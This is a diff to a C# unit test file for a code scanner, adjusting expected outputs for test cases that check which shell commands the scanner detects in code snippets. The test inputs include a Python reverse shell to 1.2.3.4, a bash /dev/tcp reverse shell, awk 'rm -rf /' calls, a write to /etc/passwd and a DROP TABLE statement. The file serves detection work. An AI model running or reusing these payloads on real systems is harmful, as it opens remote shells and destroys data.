@@ -48,7 +48,7 @@ public class CodeScannerTests
     [InlineData("import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',99));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
         "/bin/sh -i; sh: bash -i >& /dev/tcp/host.invalid/4444 0>&1")]
     [InlineData("import socket; s=socket.socket(); s.connect(('localhost', 5432)); print('ok')", "")]
-    [InlineData("exec(agent_response)", "sh: $code")]
+    [InlineData("exec(agent_response)", "eval $code")]
     [InlineData("import ast; print(ast.literal_eval('[1]'))", "")]
     [InlineData("import json; print(json.load(open('data.json'))['rm -rf /'])", "cat data.json")]
     [InlineData("cursor.execute('DROP TABLE users')", "psql -c DROP TABLE users")]
@@ -150,7 +150,7 @@ public class CodeScannerTests
     [InlineData("/rm -rf/ {print \"rm -rf /\"}", "")]
     [InlineData("BEGIN{system(\"rm -rf /\")}", "sh: rm -rf /")]
     [InlineData("{system(\"rm \" $1)}", "sh: rm $1")]
-    [InlineData("{print \"echo x\" | \"sh\"}", "sh: sh")]
+    [InlineData("{print \"echo x\" | \"sh\"}", "sh: echo x")]
     [InlineData("BEGIN{\"curl e.com\" | getline x}", "sh: curl e.com")]
     [InlineData("{print > \"/etc/passwd\"}", "tee /etc/passwd")]
     [InlineData("$1 > 5 {print}", "")]
